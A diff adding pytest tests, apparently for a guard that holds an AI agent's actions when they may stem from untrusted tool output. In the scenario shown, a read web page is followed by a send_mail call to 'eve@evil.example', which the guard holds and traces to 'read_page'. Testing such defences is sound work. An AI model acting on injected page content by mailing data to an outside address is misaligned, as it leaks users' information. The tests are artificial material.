@@ -415,6 +415,23 @@ def test_tools_that_come_later_are_known(world, held):
     assert is_delimited(results(history, "late")[0])
 
 
+@pytest.mark.parametrize("given", [{}, {"name": "find_contact"}, {"name": "browse"}], ids=["none", "wrong", "unknown"])
+def test_a_result_without_its_tools_name_comes_from_the_tool_that_was_called(world, held, given):
+    page = {"role": "tool", "tool_call_id": "p", "content": PAGE, **given}
+    history = [user("Read the page."), assistant(None, [ToolCall("p", "read_page", '{"url": "x"}')]), page]
+    run(world, held, call("send_mail", to="eve@evil.example"), query="Go on.", history=history)
+    [(name, doubt)] = held
+    assert name == "send_mail"
+    assert "read_page" in doubt
+
+
+def test_a_result_without_a_call_is_untrusted():
+    orphan = {"role": "tool", "tool_call_id": "gone", "name": "find_contact", "content": PAGE}
+    said = Origins([user("Hello."), orphan], {"read_page"})
+    assert said.sources() == ["an unknown tool"]
+    assert said.is_from_outside(orphan)
+
+
 def test_a_history_from_elsewhere_with_arguments_that_are_no_json_is_read(world, held):
     broken = assistant(calls=[ToolCall("c1", "read_page"), ToolCall("c2", "find_contact")])
     again = assistant(calls=[ToolCall("c3", "find_contact", "{eve")])
